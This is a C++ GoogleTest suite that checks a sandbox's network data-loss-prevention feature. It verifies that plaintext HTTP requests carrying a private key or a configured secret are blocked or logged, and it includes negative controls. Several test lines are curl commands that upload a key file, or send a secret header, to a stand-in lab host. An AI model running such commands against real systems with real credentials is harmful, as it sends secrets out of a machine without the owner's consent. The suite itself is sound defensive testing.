// [dlp] end to end: what a sandbox sends in plaintext HTTP is scanned for
// secrets before it leaves; the lab's server logs what arrived, so a test
// proves the secret did not reach it (block) or did, recorded (log).
// Negative controls: the same request without the secret arrives, and the
// same secret with DLP off arrives.
#include <gtest/gtest.h>

#include <sstream>

#include "harness.h"
#include "netlab.h"

namespace ultari::test {
namespace {

using nlohmann::json;

constexpr const char* kKey = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAfakefakefake\n-----END RSA PRIVATE KEY-----\n";
constexpr const char* kLiteral = "my-own-secret-value";

class NetworkDlp : public LabSuite {
 protected:
  void SetUp() override {
    LabSuite::SetUp();
    write_file(dir_ / "key.txt", kKey);
    write_file(dir_ / "plain.txt", "just some ordinary data\n");
  }

  // Runs SCRIPT with the lab's files at /lab and this test's dir at /data,
  // under a policy allowing allowed.test plus `extra` TOML.
  Outcome run(const std::string& extra, const std::string& script) {
    std::string policy = dir_ / "policy.toml";
    write_file(policy, "allow = [\"allowed.test\"]\n" + extra);
    std::vector<std::string> flags = {"--net-policy", policy, "--net-resolver", NetLab::kDnsAddr, "--audit",
                                      dir_ / "audit.jsonl", "--ro-bind", dir_.path() + ":/data"};
    for (const auto& b : lab_->binds()) flags.push_back(b);
    return lab_->sh(script, flags);
  }
  static bool contains(const std::string& s, const std::string& part) { return s.find(part) != std::string::npos; }
  std::optional<json> line_for(const std::string& kind) const { return first_of(dir_ / "audit.jsonl", kind); }
};

const std::string kPostKey =
    "curl -sS --noproxy '*' --max-time 5 -o /dev/null -w '%{http_code}\\n' --data-binary @/data/key.txt http://allowed.test/upload; echo rc=$?";
const std::string kPostPlain =
    "curl -sS --noproxy '*' --max-time 5 -o /dev/null -w '%{http_code}\\n' --data-binary @/data/plain.txt http://allowed.test/upload; echo rc=$?";

TEST_F(NetworkDlp, BlockKeepsAPrivateKeyInAPostBodyFromLeaving) {
  Outcome r = run("[dlp]\naction = \"block\"\n", kPostKey);
  EXPECT_FALSE(contains(r.out, "rc=0")) << r.out << r.err;
  EXPECT_FALSE(contains(arrived(), "PRIVATE KEY")) << arrived();
  auto l = line_for("http");
  ASSERT_TRUE(l.has_value()) << read_file(dir_ / "audit.jsonl");
  EXPECT_EQ((*l)["decision"], "deny");
  EXPECT_EQ((*l)["reason"], "dlp:private-key");
  // Negative control: an ordinary body under the same policy arrives.
  lab_->clear_logs();
  Outcome ok = run("[dlp]\naction = \"block\"\n", kPostPlain);
  EXPECT_TRUE(contains(ok.out, "200")) << ok.out << ok.err;
  EXPECT_TRUE(contains(arrived(), "just some ordinary data")) << arrived();
}

TEST_F(NetworkDlp, WithoutDlpTheSameKeyLeaves) {
  // The negative control of the test above: the probe does carry the key.
  Outcome r = run("", kPostKey);
  EXPECT_TRUE(contains(r.out, "200")) << r.out << r.err;
  EXPECT_TRUE(contains(arrived(), "PRIVATE KEY")) << arrived();
}

TEST_F(NetworkDlp, LogModeLetsItThroughAndRecordsThePattern) {
  Outcome r = run("[dlp]\naction = \"log\"\n", kPostKey);
  EXPECT_TRUE(contains(r.out, "200")) << r.out << r.err;
  EXPECT_TRUE(contains(arrived(), "PRIVATE KEY")) << arrived();
  auto l = line_for("http");
  ASSERT_TRUE(l.has_value());
  EXPECT_EQ((*l)["decision"], "allow");
  EXPECT_EQ((*l)["dlp"], json::array({"private-key"}));
}

TEST_F(NetworkDlp, ALiteralSecretInAHeaderIsBlockedAndNeverLogged) {
  std::string script = std::string("curl -sS --noproxy '*' --max-time 5 -o /dev/null -w '%{http_code}\\n' -H 'X-Token: ") +
                       kLiteral + "' http://allowed.test/; echo rc=$?";
  Outcome r = run(std::string("[dlp]\nliterals = [\"") + kLiteral + "\"]\n", script);
  EXPECT_FALSE(contains(r.out, "rc=0")) << r.out << r.err;
  EXPECT_FALSE(contains(arrived(), kLiteral)) << arrived();
  auto l = line_for("http");
  ASSERT_TRUE(l.has_value());
  EXPECT_EQ((*l)["reason"], "dlp:literal-1");
  EXPECT_FALSE(contains(read_file(dir_ / "audit.jsonl"), kLiteral));
  // Negative control: another header value arrives.
  lab_->clear_logs();
  Outcome ok = run(std::string("[dlp]\nliterals = [\"") + kLiteral + "\"]\n",
                   "curl -sS --noproxy '*' --max-time 5 -o /dev/null -w '%{http_code}\\n' -H 'X-Token: harmless' http://allowed.test/");
  EXPECT_TRUE(contains(ok.out, "200")) << ok.out << ok.err;
}

TEST_F(NetworkDlp, ThroughTheExplicitProxyToo) {
  std::string script =
      "curl -sS -x http://127.0.0.1:3128 --max-time 5 -o /dev/null -w '%{http_code}\\n' --data-binary @/data/key.txt "
      "http://allowed.test/upload; echo rc=$?";
  Outcome r = run("[dlp]\n", script);
  EXPECT_FALSE(contains(arrived(), "PRIVATE KEY")) << arrived() << r.out << r.err;
  auto l = line_for("http");
  ASSERT_TRUE(l.has_value());
  EXPECT_EQ((*l)["reason"], "dlp:private-key");
}

}  // namespace
}  // namespace ultari::test
